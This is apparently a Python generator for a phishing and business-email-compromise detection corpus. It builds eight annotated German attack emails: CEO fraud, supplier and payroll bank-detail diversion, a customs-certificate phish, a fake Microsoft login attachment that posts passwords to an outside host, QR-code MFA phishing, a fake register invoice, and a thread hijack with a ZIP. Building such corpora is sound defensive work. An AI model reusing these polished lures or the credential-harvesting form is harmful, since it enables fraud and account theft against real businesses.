"""Attack messages 01-08 (German)."""
import files
import infra
import qr
import util
from company import BANK, S as STAFF
from compose import A, E, S, T, alt, esc, html_gmx, html_outlook, mixed, msg, related
from mime import addr, ew
from threads import T as TH
from util import berlin, fmt_iban


def build():
    # ------------------------------------------------------------ 01 CEO fraud
    dt = berlin(2026, 10, 15, 16, 42, 7)
    r = util.rng("a01")
    p = infra.postfix_host(r, dt, E("cfo"), "mail.examplegroup-eu.com", "vmi2231887.contaboserver.net",
                           "161.97.142.58", "[192.168.0.104] (unknown [185.107.56.214])", webmail="outlook",
                           domain="examplegroup-eu.com")
    text = """Hallo Sabine,

bist du heute noch im Büro erreichbar? Ich brauche kurzfristig deine Unterstützung in einer vertraulichen Angelegenheit.

Wie du weißt, prüfen wir seit dem Sommer die Übernahme eines Weinguts an der Mittelmosel. Die Gespräche sind jetzt in der entscheidenden Phase, und der Verkäufer verlangt bis morgen 12 Uhr eine Exklusivitätsanzahlung auf das Treuhandkonto der begleitenden Kanzlei. Der Beirat ist informiert, nach außen darf aber bis zur Unterzeichnung nichts bekannt werden – auch nicht intern in der Buchhaltung oder bei Anna.

Herr Rechtsanwalt Dr. Markus Hellwig (Hellwig & Rauch Rechtsanwälte, Frankfurt) meldet sich gleich bei dir mit den Kontodaten und dem Treuhandvertrag. Bitte stimm dich direkt mit ihm ab und gib die Zahlung über EUR 186.400,00 heute noch frei. Die Unterlagen für die Buchhaltung reiche ich nach der Unterzeichnung nach.

Ich sitze den restlichen Tag in Verhandlungen und kann nicht telefonieren. Bitte antworte nur per Mail an diese Adresse.

Danke dir und viele Grüße
Johannes

Dr. Johannes Körber
Geschäftsführer
Example Group GmbH | Rheinallee 88 | 55120 Mainz
"""
    body = alt(p, T(text, "windows-1252", "quoted-printable"),
               T(html_outlook(text, "windows-1252"), "windows-1252", "quoted-printable", sub="html"))
    msg("01-de-ceo-fraud-vertrauliche-uebernahme.eml", "attack", "de", p, E("cfo"), dt,
        "johannes.koerber@examplegroup-eu.com",
        [("From", addr("Dr. Johannes Körber", "johannes.koerber@examplegroup-eu.com", "iso-8859-1", "Q")),
         ("To", S("cfo", "iso-8859-1", "Q")),
         ("Subject", "Vertraulich - kurze Abstimmung heute"),
         ("Reply-To", "<j.koerber@examplegroup-eu.com>")],
        body,
        "CEO fraud: 'CEO' asks the CFO to release a EUR 186,400 'exclusivity deposit' for a secret winery "
        "acquisition via a lawyer who will send account details",
        "Look-alike domain examplegroup-eu.com (not example.com/examplegroup.eu) on a Contabo VPS with a forged "
        "Outlook X-Mailer; secrecy even towards accounting, deadline, refuses phone contact, payment to a third-party "
        "escrow announced via a 'lawyer' (classic BEC).", pair="B01", order="outlook")

    # ------------------------------------------------------------ 02 supplier bank change (look-alike)
    dt = berlin(2026, 10, 20, 10, 7, 41)
    r = util.rng("a02")
    p = infra.postfix_host(r, dt, E("ap"), "mail.lieferant-gmbh.com", "ns3161442.ip-51-195-45.eu", "51.195.45.117",
                           "[10.8.0.6] (unknown [91.132.139.20])", webmail="outlook", domain="lieferant-gmbh.com")
    mule = BANK["mule_de"]
    text = """Sehr geehrte Frau Schäfer,

im Zuge der Umstellung unseres Zahlungsverkehrs auf eine neue Hausbank hat sich unsere Bankverbindung geändert. Bitte hinterlegen Sie ab sofort für alle offenen und künftigen Rechnungen ausschließlich die folgende Verbindung:

Kontoinhaber: Lieferant GmbH
Bank: N26 Bank SE
IBAN: %s
BIC: NTSBDEB1XXX

Das bisherige Konto bei der Sparkasse Rhein-Nahe wird zum 31.10.2026 aufgelöst; Zahlungen dorthin können danach nicht mehr zugeordnet werden. Die Rechnungen RE-2026-04418 und RE-2026-04502 (zusammen 23.874,60 EUR) sind bereits fällig - wir wären Ihnen dankbar, wenn Sie diese mit dem nächsten Zahllauf auf die neue Verbindung überweisen.

Die Bestätigung unserer Bank finden Sie im Anhang. Bitte bestätigen Sie mir die Änderung kurz per E-Mail, telefonisch bin ich diese Woche wegen des Jahresabschlusses nur eingeschränkt erreichbar.

Mit freundlichen Grüßen

Petra Lang
Buchhaltung / Debitorenmanagement
Lieferant GmbH
Industriestraße 14 · 55543 Bad Kreuznach
""" % fmt_iban(mule)
    pdf = files.pdf([(16, "Lieferant GmbH", "B"), "Industriestraße 14 · 55543 Bad Kreuznach", "",
                     (12, "Mitteilung über die Änderung der Bankverbindung", "B"), "",
                     "Sehr geehrte Geschäftspartner,", "",
                     "hiermit bestätigen wir die Änderung unserer Bankverbindung mit Wirkung zum 19.10.2026.",
                     "", "Kontoinhaber: Lieferant GmbH", "Kreditinstitut: N26 Bank SE, Berlin",
                     "IBAN: " + fmt_iban(mule), "BIC: NTSBDEB1XXX", "",
                     "Bitte verwenden Sie ab sofort ausschließlich diese Bankverbindung.", "",
                     "Bad Kreuznach, 19.10.2026", "", "gez. Geschäftsführung"],
                    title="Bankverbindung Lieferant GmbH", author="p.lang", created="20261019151233+02'00'")
    body = mixed(p, alt(p, T(text, "iso-8859-1", "quoted-printable"),
                        T(html_outlook(text, "iso-8859-1"), "iso-8859-1", "quoted-printable", sub="html")),
                 A("application/pdf", pdf, "Lieferant_GmbH_neue_Bankverbindung.pdf"))
    msg("02-de-lieferant-bankverbindung-lookalike.eml", "attack", "de", p, E("ap"), dt, "p.lang@lieferant-gmbh.com",
        [("From", addr("Petra Lang | Lieferant GmbH", "p.lang@lieferant-gmbh.com")),
         ("To", S("ap", "iso-8859-1", "Q")),
         ("Subject", ew("Änderung unserer Bankverbindung / offene Rechnungen", "iso-8859-1", "Q"))],
        body,
        "Supplier bank-detail change: 'Lieferant GmbH accounting' announces a new account at an online bank and "
        "asks to pay two overdue invoices there; PDF 'bank confirmation'",
        "Sender domain lieferant-gmbh.com is a look-alike of the real lieferant-gmbh.de, sent from an OVH VPS instead "
        "of Lieferant's IONOS mail; the 'bank confirmation' is a self-made PDF; pushes the change for due invoices and "
        "asks for confirmation by e-mail only, discouraging a call-back.", pair="B02", order="outlook")

    # ------------------------------------------------------------ 03 Zoll-Portal / EMCS certificate (Brevo)
    dt = berlin(2026, 11, 2, 8, 31, 12)
    r = util.rng("a03")
    p = infra.brevo(r, dt, E("log"))
    trk = "https://r.sp1-brevo.net/mk/cl/f/sh/%s/%s" % (util.alnum(r, 28), util.alnum(r, 12))
    text = """Guten Tag,

für das Unternehmenskonto Example Group GmbH (Verbrauchsteuernummer DE00716400030) läuft das im Zoll-Portal hinterlegte ELSTER-Organisationszertifikat am 06.11.2026 ab.

Nach Ablauf können keine Nachrichten in EMCS-Deutschland (e-VD, Eingangsmeldungen, Ausfuhrmeldungen) und ATLAS mehr abgegeben werden. Offene Beförderungen unter Steueraussetzung werden nach Fristablauf nicht automatisch erledigt.

Bitte verlängern Sie das Zertifikat bis spätestens 05.11.2026:

Zertifikat im Zoll-Portal verlängern
%s

Die Verlängerung dauert etwa drei Minuten. Halten Sie bitte Ihre Zertifikatsdatei (.pfx) und die zugehörige PIN bereit.

Mit freundlichen Grüßen
Ihr Service-Team Zoll-Portal
Generalzolldirektion

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.
""" % trk
    html = """<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Zoll-Portal</title></head>
<body style="margin:0;background:#eef1f4;font-family:Arial,Helvetica,sans-serif;color:#1b1b1b">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:6px solid #007a3d">
<tr><td style="padding:20px 32px;font-size:20px;font-weight:bold;color:#007a3d">Zoll-Portal</td></tr>
<tr><td style="padding:0 32px 8px 32px;font-size:14px;line-height:21px">
<p>Guten Tag,</p>
<p>für das Unternehmenskonto <b>Example Group GmbH</b> (Verbrauchsteuernummer DE00716400030) läuft das im Zoll-Portal hinterlegte ELSTER-Organisationszertifikat am <b>06.11.2026</b> ab.</p>
<p>Nach Ablauf können keine Nachrichten in EMCS-Deutschland (e-VD, Eingangsmeldungen, Ausfuhrmeldungen) und ATLAS mehr abgegeben werden. Offene Beförderungen unter Steueraussetzung werden nach Fristablauf nicht automatisch erledigt.</p>
<p>Bitte verlängern Sie das Zertifikat bis spätestens 05.11.2026.</p>
<p style="text-align:center;padding:12px 0"><a href="%s" style="background:#007a3d;color:#fff;padding:12px 22px;text-decoration:none;font-weight:bold">Zertifikat im Zoll-Portal verlängern</a></p>
<p>Die Verlängerung dauert etwa drei Minuten. Halten Sie bitte Ihre Zertifikatsdatei (.pfx) und die zugehörige PIN bereit.</p>
<p>Mit freundlichen Grüßen<br>Ihr Service-Team Zoll-Portal<br>Generalzolldirektion</p>
</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#666;background:#f6f6f6">Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.</td></tr>
</table><img src="https://r.sp1-brevo.net/mk/op/sh/%s" width="1" height="1" alt=""></td></tr></table>
</body></html>
""" % (trk, util.alnum(r, 30))
    body = alt(p, T(text, "utf-8", "quoted-printable"), T(html, "utf-8", "base64", sub="html"))
    msg("03-de-zoll-portal-emcs-zertifikat.eml", "attack", "de", p, E("log"), dt,
        "bounces-%s@smtp-relay.mailin.fr" % util.alnum(r, 10),
        [("From", addr("Zoll-Portal | Generalzolldirektion", "benachrichtigung@zoll-portal-service.de")),
         ("To", "<%s>" % E("log")),
         ("Subject", ew("Zoll-Portal: Ihr Organisationszertifikat für EMCS/ATLAS läuft am 06.11.2026 ab", "utf-8", "B")),
         ("Reply-To", "<noreply@zoll-portal-service.de>")],
        body,
        "Credential/certificate phishing: 'Zoll-Portal' says the ELSTER organisation certificate used for EMCS and "
        "ATLAS expires; link to 'renew' asks for the .pfx file and PIN",
        "German customs does not mail certificate renewals through a bulk ESP (Brevo) from zoll-portal-service.de; the "
        "link goes through Brevo click tracking to a non-zoll.de host and asks for the certificate file plus PIN, "
        "which would let the attacker file excise/customs declarations; deadline pressure tailored to a wine shipper.")

    # ------------------------------------------------------------ 04 XRechnung HTML attachment (compromised tax office)
    dt = berlin(2026, 11, 11, 13, 18, 40)
    r = util.rng("a04")
    p = infra.exim_cpanel(r, dt, "rechnungen@example.com", "s112.webhoster-cp.de", "185.26.156.112",
                          "info@stb-brenner-partner.de", client_ip="103.167.89.21")
    text = """Sehr geehrte Damen und Herren,

in der Anlage erhalten Sie die elektronische Rechnung RE-2026-11873 im Format XRechnung gemäß § 14 UStG.

Rechnungsbetrag: 4.812,35 EUR
Zahlungsziel: 18.11.2026

Zur Ansicht öffnen Sie bitte die beigefügte Datei mit Ihrem Browser und bestätigen Sie den Zugriff mit Ihrem Firmenkonto.

Mit freundlichen Grüßen
Steuerberatung Brenner & Partner mbB
Rechnungsstelle
"""
    att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><meta name="robots" content="noindex">
<title>XRechnung Viewer - RE-2026-11873</title>
<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1;margin:0}
.box{width:420px;margin:70px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:22px;font-weight:600;margin:16px 0}input{width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;margin:10px 0 18px;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 34px;float:right;font-size:15px}.doc{font-size:13px;color:#444}</style></head>
<body><div class="box">
<div style="font-size:19px;color:#737373">&#9632; Microsoft</div>
<h1>Anmelden, um das Dokument anzuzeigen</h1>
<p class="doc">E-Rechnung <b>RE-2026-11873.xml</b> (XRechnung 3.0, 48 KB) wurde f&uuml;r <b>rechnungen@example.com</b> freigegeben.</p>
<form method="POST" action="https://xr-dokumentenansicht.pages.dev/api/v2/session">
<input type="hidden" name="doc" value="RE-2026-11873">
<input type="email" name="login" value="rechnungen@example.com">
<input type="password" name="passwd" placeholder="Kennwort">
<button type="submit">Anmelden</button></form>
<p style="clear:both;padding-top:24px;font-size:12px;color:#666">Aus Sicherheitsgr&uuml;nden l&auml;uft die Freigabe nach 48 Stunden ab.</p>
</div></body></html>
"""
    body = mixed(p, T(text, "utf-8", "8bit"), A("text/html", att.encode("utf-8"), "XRechnung_RE-2026-11873.html",
                                               charset="utf-8"))
    msg("04-de-xrechnung-html-anhang-login.eml", "attack", "de", p, "rechnungen@example.com", dt,
        "info@stb-brenner-partner.de",
        [("From", addr("Rechnungsstelle Brenner & Partner", "info@stb-brenner-partner.de")),
         ("To", "rechnungen@example.com"),
         ("Subject", "E-Rechnung RE-2026-11873 (XRechnung) - Zahlungsziel 18.11.2026")],
        body,
        "HTML-attachment credential phishing dressed as an XRechnung e-invoice; the attachment is a fake Microsoft "
        "sign-in page pre-filled with the invoice mailbox",
        "No business relation with the sender (a tax office's mailbox abused via a foreign IP on shared cPanel "
        "hosting); a real XRechnung is an XML file, not an HTML page; the HTML form posts the mailbox password to "
        "a pages.dev host.", pair="B08")

    # ------------------------------------------------------------ 05 quishing MFA (Mailgun)
    dt = berlin(2026, 10, 19, 7, 55, 3)
    r = util.rng("a05")
    p = infra.mailgun(r, dt, E("ar"), "mg.examplegroup-support.com")
    url = "https://login.examplegroup-support.com/mfa/enroll?tenant=example.com&u=anVlcmdlbi5ob2ZmbWFubkBleGFtcGxlLmNvbQ"
    png = qr.qr_png(url, "M", scale=5)
    text = """Hallo Jürgen Hoffmann,

im Rahmen der Umstellung auf phishing-resistente Mehrfaktor-Authentifizierung (Microsoft Entra ID) müssen alle Konten der Example Group die Anmeldung mit Microsoft Authenticator bis zum 23.10.2026 neu registrieren. Konten ohne Neuregistrierung werden danach bis zur Prüfung durch die IT gesperrt.

So gehen Sie vor:
1. Öffnen Sie die Kamera Ihres Smartphones.
2. Scannen Sie den QR-Code in dieser Nachricht.
3. Melden Sie sich mit Ihrem gewohnten Kennwort an und bestätigen Sie die Registrierung.

Der Vorgang dauert weniger als zwei Minuten.

Vielen Dank für Ihre Unterstützung
IT-Service Example Group
"""
    html = """<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<p>Hallo Jürgen Hoffmann,</p>
<p>im Rahmen der Umstellung auf phishing-resistente Mehrfaktor-Authentifizierung (Microsoft Entra ID) müssen alle Konten der Example Group die Anmeldung mit <b>Microsoft Authenticator bis zum 23.10.2026</b> neu registrieren. Konten ohne Neuregistrierung werden danach bis zur Prüfung durch die IT gesperrt.</p>
<p><b>So gehen Sie vor:</b></p>
<ol><li>Öffnen Sie die Kamera Ihres Smartphones.</li><li>Scannen Sie den folgenden QR-Code.</li><li>Melden Sie sich mit Ihrem gewohnten Kennwort an und bestätigen Sie die Registrierung.</li></ol>
<p><img src="cid:mfa-qr@examplegroup" width="205" height="205" alt="QR-Code"></p>
<p>Der Vorgang dauert weniger als zwei Minuten.</p>
<p>Vielen Dank für Ihre Unterstützung<br>IT-Service Example Group</p>
<p style="font-size:11px;color:#888">Example Group GmbH &middot; Rheinallee 88 &middot; 55120 Mainz</p>
</body></html>
"""
    body = alt(p, T(text, "utf-8", "quoted-printable"),
               related(p, T(html, "utf-8", "quoted-printable", sub="html"),
                       A("image/png", png, "mfa.png", disposition="inline", cid="mfa-qr@examplegroup")))
    msg("05-de-quishing-mfa-neuregistrierung.eml", "attack", "de", p, E("ar"), dt,
        "bounce+%s@mg.examplegroup-support.com" % util.hexid(r, 6),
        [("From", addr("IT-Service Example Group", "it-service@examplegroup-support.com")),
         ("To", S("ar", "utf-8", "Q")),
         ("Subject", ew("Aktion erforderlich: Microsoft Authenticator bis 23.10.2026 neu registrieren", "utf-8", "Q"))],
        body,
        "Quishing: fake internal IT notice demanding MFA re-registration by scanning an inline QR code (PNG) that "
        "leads to an adversary-in-the-middle login page",
        "Internal IT never mails from examplegroup-support.com via Mailgun; the QR code hides a look-alike login "
        "URL from link scanners and moves the victim to an unmanaged phone; lockout threat and deadline.",
        pair="B06")

    # ------------------------------------------------------------ 06 payroll diversion (web.de)
    dt = berlin(2026, 11, 18, 14, 3, 55)
    r = util.rng("a06")
    p = infra.gmx(r, dt, E("hr"), "80.187.118.44", webde=True)
    mule = BANK["mule_ie"]
    text = """Hallo Claudia,

ich habe mein Gehaltskonto gewechselt und wollte dich bitten, die Überweisung ab der November-Abrechnung auf mein neues Konto zu machen:

Kontoinhaberin: Katrin Schulz
IBAN: %s
BIC: REVOIE23

Ich schreibe dir von meiner privaten Adresse, weil ich diese Woche bei Kunden in Hamburg unterwegs bin und mit dem Laptop gerade nicht ins VPN komme. Kannst du mir kurz Bescheid geben, ob das für diesen Monat noch klappt? Das Formular kann ich gern nachreichen, wenn ich wieder in Mainz bin.

Danke dir und liebe Grüße
Katrin""" % fmt_iban(mule)
    body = T(html_gmx(text), "UTF-8", "quoted-printable", sub="html")
    msg("06-de-gehaltskonto-aenderung-freemail.eml", "attack", "de", p, E("hr"), dt, "katrin.schulz.ks@web.de",
        [("From", addr("Katrin Schulz", "katrin.schulz.ks@web.de")),
         ("To", S("hr", "UTF-8", "Q")),
         ("Subject", ew("Änderung Bankverbindung Gehalt", "UTF-8", "Q"))],
        body,
        "Payroll diversion: 'Katrin Schulz' asks HR from a web.de address to pay her November salary into a new "
        "account at a foreign neobank",
        "Freemail address that is not Katrin's known private address (she uses GMX, see business 05); salary account "
        "change requested by e-mail instead of the signed HR form, foreign IBAN, excuse for not using company mail, "
        "timed just before the payroll run.", pair="B05")

    # ------------------------------------------------------------ 07 fake register 'invoice'
    dt = berlin(2026, 12, 8, 9, 12, 26)
    r = util.rng("a07")
    p = infra.postfix_host(r, dt, "info@example.com", "mail.gewerberegister-zentral.de", "static.88-198-21-47.clients.your-server.de",
                           "88.198.21.47", "localhost (localhost [127.0.0.1])", webmail="php",
                           domain="gewerberegister-zentral.de", auth=False)
    iban = BANK["register"]
    epc = "BCD\n002\n1\nSCT\nDAAEDEDDXXX\nGZD Gewerbedaten Zentral GmbH\n%s\nEUR682.18\n\n\nGZD-2026-118422 HRB 41877" % iban
    gpng = qr.qr_png(epc, "M", scale=4)
    text = """Sehr geehrte Damen und Herren,

anlässlich der Bekanntmachung Ihrer Handelsregistereintragung vom 27.11.2026 (Amtsgericht Mainz, HRB 41877, Veränderung: Geschäftsführung) wurden die Firmendaten der

    Example Group GmbH
    Rheinallee 88, 55120 Mainz

für das Zentrale Gewerbe- und Firmenregister vorerfasst. Bitte prüfen Sie die Angaben im beigefügten Erfassungsbogen. Die Eintragung wird mit Zahlungseingang wirksam; bitte verwenden Sie dazu den beigefügten Zahlschein (GiroCode) oder überweisen Sie den Betrag von 682,18 EUR unter Angabe des Aktenzeichens GZD-2026-118422 auf:

    GZD Gewerbedaten Zentral GmbH
    IBAN %s
    BIC DAAEDEDDXXX

Zahlungsfrist: 10 Tage nach Zugang dieses Schreibens.

Mit freundlichen Grüßen
Zentrales Gewerberegister - Eintragungsstelle
""" % fmt_iban(iban)
    pdf = files.pdf([(14, "ZENTRALES GEWERBE- UND FIRMENREGISTER", "B"), (9, "Eintragungsstelle - Az. GZD-2026-118422"), "",
                     (11, "Erfassungsbogen / Zahlungsaufforderung", "B"), "",
                     "Firma: Example Group GmbH", "Anschrift: Rheinallee 88, 55120 Mainz",
                     "Registergericht: Amtsgericht Mainz, HRB 41877",
                     "Bekanntmachung vom: 27.11.2026 (Veraenderung Geschaeftsfuehrung)", "",
                     "Eintragungsgebuehr netto: 573,26 EUR", "zzgl. 19 % USt: 108,92 EUR",
                     (11, "Zahlbetrag: 682,18 EUR", "B"), "",
                     "Empfaenger: GZD Gewerbedaten Zentral GmbH", "IBAN: " + fmt_iban(iban), "BIC: DAAEDEDDXXX", "",
                     (6, "Angebot zur Aufnahme in das privatwirtschaftlich betriebene Online-Verzeichnis www.gewerberegister-zentral.de."
                         " Mit Zahlung kommt ein Eintragungsvertrag mit einer Laufzeit von 36 Monaten zustande; der Betrag"),
                     (6, "wird jaehrlich im Voraus faellig. Keine Verbindung zum amtlichen Handelsregister oder zum Unternehmensregister.")],
                    title="Erfassungsbogen GZD-2026-118422", producer="TCPDF 6.7.5 (http://www.tcpdf.org)",
                    created="20261207203011+01'00'")
    body = mixed(p, T(text, "iso-8859-1", "8bit"),
                 A("application/pdf", pdf, "Erfassungsbogen_GZD-2026-118422.pdf"),
                 A("image/png", gpng, "Zahlschein_GiroCode.png"))
    msg("07-de-gewerberegister-eintragungsofferte.eml", "attack", "de", p, "info@example.com", dt,
        "eintragung@gewerberegister-zentral.de",
        [("From", addr("Zentrales Gewerberegister", "eintragung@gewerberegister-zentral.de")),
         ("To", "info@example.com"),
         ("Subject", ew("Eintragung Example Group GmbH - HRB 41877 - Az. GZD-2026-118422", "iso-8859-1", "Q"))],
        body,
        "Fake register 'invoice': a private directory, triggered by a public Handelsregister notice, sends a payment "
        "request with a GiroCode (EPC QR) for 682.18 EUR; small print is a 3-year paid listing",
        "Unsolicited, official-looking 'Gewerberegister' that has no legal function; the PDF's 6-pt footnote reveals "
        "a 36-month contract concluded by paying; sent by PHPMailer on a Hetzner server.")

    # ------------------------------------------------------------ 08 thread hijack from compromised Kessler mailbox
    dt = berlin(2026, 10, 29, 11, 26, 17)
    r = util.rng("a08")
    p = infra.strato(r, dt, E("salesde"), "kessler-weinhandel.de", "[10.64.0.12] (vpn-fra-02.m247.net [193.42.99.71])",
                     "193.42.99.71")
    pwd = "KW44"
    z = files.zip_crypto([("Bestellung_KW44_rev2.pdf.js", "// " + files.PLACEHOLDER)], pwd, "a08",
                         when=(2026, 10, 29, 11, 4, 10))
    text = """Hallo Frau Schulz,

anbei wie besprochen die überarbeitete Bestellung inkl. Zahlungsavis für die offene Rechnung. Da unser Mailserver seit dem Update PDF-Anhänge teilweise blockiert, habe ich die Unterlagen verschlüsselt gepackt.

Kennwort: %s

Bitte kurz prüfen und bestätigen, damit die Ware wie geplant am Dienstag rausgehen kann.

Mit freundlichen Grüßen
Jana Roth
Einkauf
Weinhandel Kessler GmbH
Taunusstraße 21 | 65183 Wiesbaden
Tel. 0611 / 5 47 12-20

-----Ursprüngliche Nachricht-----
Von: Katrin Schulz <katrin.schulz@example.com>
Gesendet: Montag, 26. Oktober 2026 14:51
An: Jana Roth <einkauf@kessler-weinhandel.de>
Betreff: AW: Bestellung KW 44 - Riesling Spätlese / Spätburgunder

Hallo Frau Roth,

vielen Dank für die Bestellung. Riesling Spätlese 2024 (240 Fl.) und Spätburgunder trocken 2023 (180 Fl.) sind reserviert, Auslieferung KW 45 über unsere Spedition.

Viele Grüße
Katrin Schulz
""" % pwd
    body = mixed(p, T(text, "windows-1252", "quoted-printable"),
                 A("application/x-zip-compressed", z, "Bestellung_KW44_rev2.zip", name_style="outlook"))
    msg("08-de-threadhijack-kessler-zip-passwort.eml", "attack", "de", p, E("salesde"), dt, "einkauf@kessler-weinhandel.de",
        [("From", addr("Jana Roth", "einkauf@kessler-weinhandel.de")),
         ("To", addr("Katrin Schulz", E("salesde"))),
         ("Subject", ew("AW: Bestellung KW 44 - Riesling Spätlese / Spätburgunder", "iso-8859-1", "Q")),
         ("In-Reply-To", TH["kessler_katrin"]),
         ("References", "%s\n %s" % (TH["kessler_order"], TH["kessler_katrin"]))],
        body,
        "Thread hijack from a genuinely compromised customer mailbox: reply in the real order thread with a "
        "password-protected ZIP ('revised order + payment advice')",
        "Real Kessler mailbox and real Strato infrastructure, but submitted from a VPN/hosting IP (M247) instead of "
        "Kessler's usual line; ZipCrypto archive with password in the body to defeat scanning, containing a "
        "'.pdf.js' script name; pretext about a mail server blocking PDFs.", pair="B04", order="outlook",
        zip_pw={"Bestellung_KW44_rev2.zip": pwd})
